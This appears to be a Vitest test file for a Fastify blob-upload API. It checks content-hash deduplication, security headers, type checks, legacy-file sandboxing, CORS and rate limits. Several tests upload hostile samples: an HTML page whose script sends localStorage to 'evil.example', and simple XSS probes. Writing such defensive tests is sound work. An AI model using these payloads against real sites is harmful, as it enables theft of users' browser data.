import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { moveLegacyUserData } from "../db/migrations/legacy-user-data.js";
import { PROJECT_PATHS } from "../paths.js";
import { buildServer } from "../server.js";
import { addLegacyUserData } from "../test-support/legacy-user-data.js";
import {
  DATABASE_ENGINES,
  openTestDatabase,
  type TestDatabase,
} from "../test-support/test-databases.js";

// Real media from the catalogue's demo folder (CC0, see its NOTICE.md).
const CAT = readFileSync(join(PROJECT_PATHS.mediaRoot, "cat-chelsea-demo.jpg"));
const CARDS = readFileSync(join(PROJECT_PATHS.mediaRoot, "cards-005.wav"));
const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

describe.each(DATABASE_ENGINES)("blobs on %s", (engine) => {
  let test: TestDatabase;
  let app: FastifyInstance;
  beforeAll(async () => {
    test = await openTestDatabase(engine);
    app = await buildServer({
      database: test.database,
      env: { MODELDECK_GATEWAY_RATE_LIMIT: "1000" },
      webRoot: "/nonexistent",
    });
  });
  afterAll(async () => {
    await app.close();
    await test.dispose();
  });

  const upload = (payload: Buffer, contentType: string) =>
    app.inject({
      method: "POST",
      url: "/api/blobs",
      headers: { "content-type": contentType },
      payload,
    });

  it("stores bytes once per content hash and serves them back unchanged", async () => {
    const first = await upload(CAT, "image/jpeg");
    expect(first.statusCode).toBe(201);
    const hash = sha256(CAT);
    expect(first.json()).toEqual({
      sha256: hash,
      size: CAT.length,
      contentType: "image/jpeg",
      url: `/api/blobs/${hash}`,
    });
    const again = await upload(CAT, "image/jpeg");
    expect(again.statusCode).toBe(200);
    expect(again.json()).toEqual(first.json());
    const rows = await test.database.userData.db
      .selectFrom("stored_blobs")
      .select("sha256")
      .where("sha256", "=", hash)
      .execute();
    expect(rows).toHaveLength(1);

    const served = await app.inject({ method: "GET", url: `/api/blobs/${hash}` });
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload.equals(CAT)).toBe(true);
    expect(served.headers).toMatchObject({
      "content-type": "image/jpeg",
      "x-content-type-options": "nosniff",
      "content-security-policy": "sandbox; default-src 'none'",
      "cache-control": "public, max-age=31536000, immutable",
      etag: `"${hash}"`,
    });
    expect(served.headers["content-disposition"]).toBeUndefined();
  });

  // Issue 27 §2: a page uploaded under an image's name must never be stored.
  it("refuses bytes that do not start the way their declared type does", async () => {
    const page = Buffer.from(
      "<!doctype html><script>fetch('https://evil.example/?k='+JSON.stringify(localStorage))</script>",
    );
    for (const type of ["image/png", "image/jpeg", "audio/wav", "video/mp4"]) {
      const refused = await upload(page, type);
      expect(refused.statusCode).toBe(400);
      expect(refused.json().error).toBe(
        `the file does not start the way a ${type} file does; send its real type, or a file of an accepted type`,
      );
    }
    expect((await upload(CAT, "image/png")).statusCode).toBe(400);
    const stored = await app.inject({ method: "GET", url: `/api/blobs/${sha256(page)}` });
    expect(stored.statusCode).toBe(404);
  });

  it("serves a file kept from before the checks only as a sandboxed download", async () => {
    const page = Buffer.from("<html><script>alert(localStorage.length)</script></html>");
    await addLegacyUserData(test.database, {
      blobs: [
        {
          sha256: sha256(page),
          contentType: "image/png",
          bytes: page,
          createdAt: "2026-11-01T00:00:00.000Z",
        },
      ],
      runs: [],
    });
    await moveLegacyUserData(test.database.db as never, engine, test.database.userData);
    const served = await app.inject({ method: "GET", url: `/api/blobs/${sha256(page)}` });
    expect(served.statusCode).toBe(200);
    expect(served.headers).toMatchObject({
      "content-type": "application/octet-stream",
      "content-disposition": "attachment",
      "content-security-policy": "sandbox; default-src 'none'",
      "x-content-type-options": "nosniff",
    });
    expect(served.rawPayload.equals(page)).toBe(true);
  });

  it("stores one row when the same bytes arrive twice at once", async () => {
    const bytes = readFileSync(join(PROJECT_PATHS.mediaRoot, "astronaut-320.jpg"));
    const answers = await Promise.all([upload(bytes, "image/jpeg"), upload(bytes, "image/jpeg")]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 201]);
    const rows = await test.database.userData.db
      .selectFrom("stored_blobs")
      .select("size")
      .where("sha256", "=", sha256(bytes))
      .execute();
    expect(rows.map((row) => Number(row.size))).toEqual([bytes.length]);
  });

  it("answers HEAD and If-None-Match from the content hash", async () => {
    const { sha256: hash } = (await upload(CARDS, "audio/wav; codecs=1")).json();
    expect(hash).toBe(sha256(CARDS));
    const head = await app.inject({ method: "HEAD", url: `/api/blobs/${hash}` });
    expect(head.statusCode).toBe(200);
    expect(head.headers["content-type"]).toBe("audio/wav");
    expect(head.headers["content-length"]).toBe(String(CARDS.length));
    expect(head.rawPayload.length).toBe(0);
    const revalidated = await app.inject({
      method: "GET",
      url: `/api/blobs/${hash}`,
      headers: { "if-none-match": `"${hash}"` },
    });
    expect(revalidated.statusCode).toBe(304);
    const absent = await app.inject({ method: "HEAD", url: `/api/blobs/${"0".repeat(64)}` });
    expect(absent.statusCode).toBe(404);
  });

  it("refuses types a browser could run as a page, before reading the body", async () => {
    for (const type of ["image/svg+xml", "text/html", "application/octet-stream"]) {
      const refused = await upload(Buffer.from("<svg onload=alert(1)>"), type);
      expect(refused.statusCode).toBe(415);
      expect(refused.json().error).toContain("image/png");
    }
    const untyped = await app.inject({ method: "POST", url: "/api/blobs", payload: CAT });
    expect(untyped.statusCode).toBe(415);
  });

  it("refuses bodies over 20 MiB and empty ones", async () => {
    const tooLarge = await upload(Buffer.alloc(20 * 1024 * 1024 + 1), "video/mp4");
    expect(tooLarge.statusCode).toBe(413);
    expect(tooLarge.json()).toHaveProperty("error");
    const empty = await upload(Buffer.alloc(0), "image/png");
    expect(empty.statusCode).toBe(400);
  });

  it("answers 404 for an unknown hash and 400 for a name that is not one", async () => {
    const missing = await app.inject({ method: "GET", url: `/api/blobs/${"ab".repeat(32)}` });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().error).toContain("not found");
    const invalid = await app.inject({ method: "GET", url: "/api/blobs/cat.jpg" });
    expect(invalid.statusCode).toBe(400);
  });

  it("lets other sites read blobs but not upload them", async () => {
    const hash = sha256(CAT);
    await upload(CAT, "image/jpeg");
    const read = await app.inject({
      method: "GET",
      url: `/api/blobs/${hash}`,
      headers: { origin: "https://example.org" },
    });
    expect(read.headers["access-control-allow-origin"]).toBe("*");
    const preflight = await app.inject({
      method: "OPTIONS",
      url: "/api/blobs",
      headers: {
        origin: "https://example.org",
        "access-control-request-method": "POST",
        "access-control-request-headers": "content-type",
      },
    });
    expect(preflight.headers["access-control-allow-methods"]).not.toContain("POST");
    const posted = await app.inject({
      method: "POST",
      url: "/api/blobs",
      headers: { origin: "https://example.org", "content-type": "image/jpeg" },
      payload: CAT,
    });
    expect(posted.headers["access-control-allow-origin"]).toBeUndefined();
  });
});

describe("blob uploads", () => {
  it("are rate-limited per client like the gateway", async () => {
    const test = await openTestDatabase("sqlite");
    const app = await buildServer({
      database: test.database,
      env: { MODELDECK_GATEWAY_RATE_LIMIT: "2" },
      clock: { now: () => 1_700_000_010_000 },
      webRoot: "/nonexistent",
    });
    try {
      const send = () =>
        app.inject({
          method: "POST",
          url: "/api/blobs",
          headers: { "content-type": "image/jpeg" },
          payload: CAT,
        });
      expect((await send()).statusCode).toBe(201);
      expect((await send()).statusCode).toBe(200);
      const limited = await send();
      expect(limited.statusCode).toBe(429);
      expect(limited.json().code).toBe("rate_limited");
      expect(Number(limited.headers["retry-after"])).toBeGreaterThan(0);
      // Reads are not counted.
      const read = await app.inject({ method: "GET", url: `/api/blobs/${sha256(CAT)}` });
      expect(read.statusCode).toBe(200);
    } finally {
      await app.close();
      await test.dispose();
    }
  });
});
